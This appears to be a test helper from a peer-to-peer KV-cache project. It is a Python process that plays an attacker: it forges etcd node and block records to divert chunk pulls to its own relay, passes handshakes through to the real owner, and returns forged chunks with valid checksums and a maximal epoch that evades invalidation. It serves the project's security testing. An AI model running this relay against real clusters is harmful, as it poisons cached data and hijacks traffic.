"""An attacker who can write etcd but holds no cluster secret, in a process of its own.

    python tests/relay_attack_proc.py --etcd URL --cluster C --owner NODE --mode evil|overwrite
        --chunk-bytes N [--tls-ca CA --tls-cert CRT --tls-key KEY]

It reads the real owner's node record and block entries from etcd, then forges records that send
pulls to its own relay: ``evil`` writes ``nodes/evil`` (the owner's record, its address replaced by
the relay's) and a GPU-tier block entry for every chunk the owner announced, so the planner prefers
it; ``overwrite`` rewrites the owner's own record with the relay's address (every 0.2 s, in case the
owner republishes). The relay forwards the handshake frames both ways to the real owner, which
proves the secret for it, then answers every ``get`` itself: each chunk forged (its bytes all
``0xA5``), with a header that matches the request, an xxh3 checksum of the forged bytes and epoch
2**64 - 1, so no invalidation barrier covers it. With ``--tls-*`` it terminates TLS on both sides
with that certificate (issued by the cluster CA: what an etcd client certificate from the same CA
would give it). Everything else is relayed untouched.

Prints one JSON line ``{"port": P}`` when ready; then answers ``stats`` on stdin with
``{"connections", "handshakes", "forged"}`` (handshakes: ``ready`` frames relayed to the victim;
forged: forged chunk frames sent). ``quit`` ends it.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import ssl
import sys
from typing import Any

import msgpack

from lmcache_p2p.chunk import ChunkHeader, checksum
from lmcache_p2p.config import EtcdConfig, TransferConfig
from lmcache_p2p.index.client import EtcdClient
from lmcache_p2p.index.schema import Schema
from lmcache_p2p.keys import ChunkKey, FingerprintDigest
from lmcache_p2p.transfer import wire
from lmcache_p2p.transfer.tls import client_context, server_context

FORGED_EPOCH = 2**64 - 1
Frame = tuple[dict[str, Any], bytes]


class Attacker:
    def __init__(self, args: argparse.Namespace) -> None:
        self.args = args
        self.schema = Schema(args.cluster)
        self.stats = {"connections": 0, "handshakes": 0, "forged": 0}
        self.owner_host, self.owner_port = "", 0
        self.server_tls: ssl.SSLContext | None = None
        self.client_tls: ssl.SSLContext | None = None
        if args.tls_cert:
            tc = TransferConfig(tls_ca_cert=args.tls_ca, tls_cert=args.tls_cert, tls_key=args.tls_key)
            self.server_tls, self.client_tls = server_context(tc), client_context(tc)

    # -- etcd: forged records ---------------------------------------------------------------------
    async def forge(self, relay_port: int) -> None:
        async with EtcdClient(EtcdConfig(endpoints=tuple(self.args.etcd.split(",")))) as etcd:
            kv, _ = await etcd.get(self.schema.nodes + self.args.owner.encode())
            assert kv is not None, "the owner's record is not in etcd"
            record = msgpack.unpackb(kv.value, raw=False)
            relay = f"127.0.0.1:{relay_port}"
            if record["addresses"]["tcp"] != relay:  # not the record forged last round: the owner's own
                self.owner_host, _, port = record["addresses"]["tcp"].rpartition(":")
                self.owner_port = int(port)
            record["addresses"] = {"tcp": relay}
            record["transports"] = ["tcp"]
            if self.args.mode == "evil":
                record["node_id"] = "evil"
                await etcd.put(self.schema.nodes + b"evil", msgpack.packb(record, use_bin_type=True))
                blocks, _ = await etcd.get_prefix(self.schema.blocks)
                suffix = b"/" + self.args.owner.encode()
                for block in blocks:
                    if block.key.endswith(suffix):
                        await etcd.put(block.key[: -len(suffix)] + b"/evil", b"\x00")  # tier GPU: wins the plan
            else:
                await etcd.put(self.schema.nodes + self.args.owner.encode(), msgpack.packb(record, use_bin_type=True))

    async def keep_overwriting(self, relay_port: int) -> None:
        while self.args.mode == "overwrite":
            await asyncio.sleep(0.2)
            with contextlib.suppress(Exception):  # an etcd hiccup: try again next round
                await self.forge(relay_port)

    # -- the relay --------------------------------------------------------------------------------
    async def session(self, victim_r: asyncio.StreamReader, victim_w: asyncio.StreamWriter) -> None:
        self.stats["connections"] += 1  # counted at TCP accept: a victim that gives up inside TLS still came
        try:
            if self.server_tls is not None:
                await victim_w.start_tls(self.server_tls)
        except (OSError, ssl.SSLError):
            victim_w.close()
            return
        try:
            owner_r, owner_w = await asyncio.open_connection(self.owner_host, self.owner_port, ssl=self.client_tls)
        except (OSError, ssl.SSLError):
            victim_w.close()
            return
        lock = asyncio.Lock()

        async def to_victim(frame: Frame) -> None:
            async with lock:
                victim_w.write(wire.encode(frame[0], len(frame[1])) + frame[1])
                await victim_w.drain()

        async def upstream() -> None:  # victim -> owner, but every get is answered here
            fp = b""
            while (frame := await read_frame(victim_r)) is not None:
                msg = frame[0]
                if msg.get("t") == "hello":
                    fp = msg.get("fp", b"")
                if msg.get("t") == "get":
                    await self.answer_get(msg, FingerprintDigest(fp), to_victim)
                    continue
                owner_w.write(wire.encode(msg, len(frame[1])) + frame[1])
                await owner_w.drain()
            owner_w.close()

        async def downstream() -> None:  # owner -> victim, untouched
            while (frame := await read_frame(owner_r)) is not None:
                if frame[0].get("t") == "ready":
                    self.stats["handshakes"] += 1
                await to_victim(frame)
            victim_w.close()

        with contextlib.suppress(OSError, ssl.SSLError, asyncio.IncompleteReadError):
            await asyncio.gather(upstream(), downstream())
        victim_w.close()
        owner_w.close()

    async def answer_get(self, msg: dict[str, Any], fp: FingerprintDigest, send: Any) -> None:
        heads = msg.get("heads") or [None] * len(msg["keys"])
        for i, (key, h) in enumerate(zip(msg["keys"], heads, strict=True)):
            h0, h1 = h if h is not None else (0, 1)
            payload = b"\xa5" * self.args.chunk_bytes
            header = ChunkHeader(ChunkKey(key), fp, len(payload), 256, checksum(payload), FORGED_EPOCH, (h0, h1))
            await send(({"t": "chunk", "id": msg["id"], "i": i, "h": header.pack()}, payload))
            self.stats["forged"] += 1
        await send(({"t": "end", "id": msg["id"]}, b""))


async def read_frame(reader: asyncio.StreamReader) -> Frame | None:
    try:
        prefix = await reader.readexactly(wire.PREFIX_SIZE)
    except asyncio.IncompleteReadError:
        return None
    header_len, payload_len = wire.PREFIX.unpack(prefix)
    msg = wire.decode(await reader.readexactly(header_len))
    return msg, await reader.readexactly(payload_len)


async def main(args: argparse.Namespace) -> None:
    attacker = Attacker(args)
    server = await asyncio.start_server(attacker.session, "127.0.0.1", 0)  # TLS started per session
    port = server.sockets[0].getsockname()[1]
    await attacker.forge(port)
    overwriting = asyncio.ensure_future(attacker.keep_overwriting(port))
    print(json.dumps({"port": port}), flush=True)
    loop = asyncio.get_running_loop()
    while (await loop.run_in_executor(None, sys.stdin.readline)).strip() not in ("", "quit"):
        print(json.dumps(attacker.stats), flush=True)
    overwriting.cancel()
    server.close()


if __name__ == "__main__":
    p = argparse.ArgumentParser()
    for name in ("--etcd", "--cluster", "--owner", "--mode"):
        p.add_argument(name, required=True)
    p.add_argument("--chunk-bytes", type=int, required=True)
    p.add_argument("--tls-ca")
    p.add_argument("--tls-cert")
    p.add_argument("--tls-key")
    asyncio.run(main(p.parse_args()))
